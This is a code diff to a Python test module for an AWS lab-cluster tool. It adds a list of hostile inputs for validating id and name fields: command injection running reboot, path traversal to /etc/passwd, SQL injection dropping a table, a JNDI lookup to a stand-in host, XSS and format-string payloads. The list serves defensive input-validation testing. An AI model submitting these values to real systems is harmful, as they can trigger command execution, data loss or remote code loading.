@@ -19,6 +19,35 @@ MANAGER = "i-0fedcba9876543210"
 OWNER = "arn:aws:states:eu-west-1:123456789012:execution:labswarm-node-launch:one"
 OTHER = "arn:aws:states:eu-west-1:123456789012:execution:labswarm-node-launch:two"
 
+# What someone might write where an id or a name is expected.
+HOSTILE = [
+    "",
+    "$(reboot)",
+    "`reboot`",
+    "; reboot",
+    "| reboot",
+    "&& reboot",
+    "-rf",
+    "*",
+    "../../etc/passwd",
+    "..%2f..%2fetc",
+    "lab/../../x",
+    '"}],"x":[{"',
+    "'; DROP TABLE ledger; --",
+    "{{ssm:/labswarm/clusters/lab}}",
+    "${jndi:ldap://x.example/a}",
+    "<script>alert(1)</script>",
+    "%s%n%x",
+    "a\nb",
+    "a\x00b",
+    "\u202ei-0123456789abcdef0",
+    "i-0123456789abcdef0\n",
+    "i-0123456789abcdef0 i-0123456789abcdef1",
+    "i-0123456789ABCDEF0",
+    "ｉ-０１２３４５６７８",
+    "x" * 5000,
+]
+
 DESCRIPTION: dict[str, Any] = {
     "name": "lab",
     "asg": "labswarm-lab-workers",
